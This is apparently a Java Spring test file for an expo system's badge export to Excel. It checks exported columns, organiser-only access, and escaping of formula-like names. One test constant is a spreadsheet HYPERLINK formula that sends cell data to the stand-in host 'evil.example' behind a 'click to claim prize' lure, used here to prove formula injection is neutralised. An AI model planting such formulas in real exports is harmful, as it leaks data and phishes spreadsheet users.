package org.expodesk.badge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import org.expodesk.shared.excel.SafeCells;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.expodesk.event.EventSummary;
import org.expodesk.person.PersonDraft;
import org.expodesk.person.PersonService;
import org.expodesk.shared.security.Role;
import org.expodesk.support.TestData;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.test.context.ActiveProfiles;

@SpringBootTest
@ActiveProfiles("test")
class BadgePrintShopExportTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击领奖\")";

    @Autowired
    BadgePrintShopExport export;
    @Autowired
    BadgeService badges;
    @Autowired
    BadgeTypeService types;
    @Autowired
    PersonService persons;
    @Autowired
    TestData testData;

    private EventSummary event;

    @BeforeEach
    void anEventWithAnOfficeAccount() {
        TestData.signInAs(testData.admin());
        event = testData.event("第八届云溪小商品博览会", "8th Yunxi Small Commodities Expo", 45);
        TestData.signInAs(testData.account("export-office-" + event.id(), EnumSet.of(Role.ORGANISER), event.id()));
    }

    @AfterEach
    void signOut() {
        TestData.signOut();
    }

    @Test
    void the_sheet_holds_names_company_type_valid_days_and_the_exact_qr_text_of_every_valid_badge() throws Exception {
        BadgeSummary zhang = issue(PersonDraft.of("张伟", "Zhang Wei", null, "青山义乌商贸有限公司", null, null), "参展商");
        BadgeSummary li = issue(PersonDraft.of("李娜", null, null, null, null, null), "采购商");
        badges.revoke(li.id(), "重复登记");

        List<List<String>> rows = rows(write(BadgeFilter.all()));

        assertThat(rows.get(0)).containsExactlyElementsOf(BadgePrintShopExport.HEADERS);
        assertThat(rows).hasSize(2);
        assertThat(rows.get(1)).containsExactly(Long.toString(zhang.id()), "张伟", "Zhang Wei", "青山义乌商贸有限公司", "参展商",
                "Exhibitor", "#1565C0", zhang.validDaysText(), badges.print(zhang.id()).code());
    }

    @Test
    void a_name_written_as_a_formula_comes_back_as_plain_text() throws Exception {
        issue(PersonDraft.of(HYPERLINK, "+1 (555) 0100", null, "@company -dash", null, null), "媒体");

        byte[] xlsx = write(BadgeFilter.all());

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getSheetAt(0);
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as("cell %s", cell.getAddress()).isEqualTo(CellType.STRING);
                }
            }
            Row badge = sheet.getRow(1);
            assertThat(badge.getCell(1).getStringCellValue()).isEqualTo("'" + HYPERLINK);
            assertThat(badge.getCell(2).getStringCellValue()).isEqualTo("'+1 (555) 0100");
            assertThat(badge.getCell(3).getStringCellValue()).isEqualTo("'@company -dash");
        }
    }

    @Test
    void only_the_text_a_spreadsheet_would_run_is_guarded() {
        assertThat(SafeCells.neverAFormula("=1+1")).isEqualTo("'=1+1");
        assertThat(SafeCells.neverAFormula("-2")).isEqualTo("'-2");
        assertThat(SafeCells.neverAFormula("\tcmd")).isEqualTo("'\tcmd");
        assertThat(SafeCells.neverAFormula("\rcmd")).isEqualTo("'\rcmd");
        assertThat(SafeCells.neverAFormula("欧阳娜娜")).isEqualTo("欧阳娜娜");
        assertThat(SafeCells.neverAFormula("a=b")).isEqualTo("a=b");
        assertThat(SafeCells.neverAFormula("")).isEmpty();
    }

    @Test
    void a_volunteer_and_the_office_of_another_event_cannot_export() {
        issue(PersonDraft.of("王芳", null, null, null, null, null), "采购商");
        TestData.signInAs(testData.account("export-volunteer-" + event.id(), EnumSet.of(Role.VOLUNTEER), event.id()));
        assertThatThrownBy(() -> write(BadgeFilter.all())).isInstanceOf(AccessDeniedException.class);
        TestData.signInAs(testData.account("export-other-" + event.id(), EnumSet.of(Role.ORGANISER)));
        assertThatThrownBy(() -> write(BadgeFilter.all())).isInstanceOf(AccessDeniedException.class);
    }

    private byte[] write(BadgeFilter filter) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        export.write(event.id(), filter, out);
        return out.toByteArray();
    }

    private static List<List<String>> rows(byte[] xlsx) throws Exception {
        List<List<String>> rows = new ArrayList<>();
        DataFormatter format = new DataFormatter();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : workbook.getSheetAt(0)) {
                List<String> cells = new ArrayList<>();
                for (int c = 0; c < BadgePrintShopExport.HEADERS.size(); c++) {
                    Cell cell = row.getCell(c);
                    cells.add(cell == null ? "" : format.formatCellValue(cell));
                }
                rows.add(cells);
            }
        }
        return rows;
    }

    private BadgeSummary issue(PersonDraft person, String typeNameZh) {
        long typeId = types.types(event.id()).stream().filter(t -> t.nameZh().equals(typeNameZh)).findFirst().orElseThrow().id();
        return badges.issue(event.id(), persons.create(person).id(), typeId);
    }
}
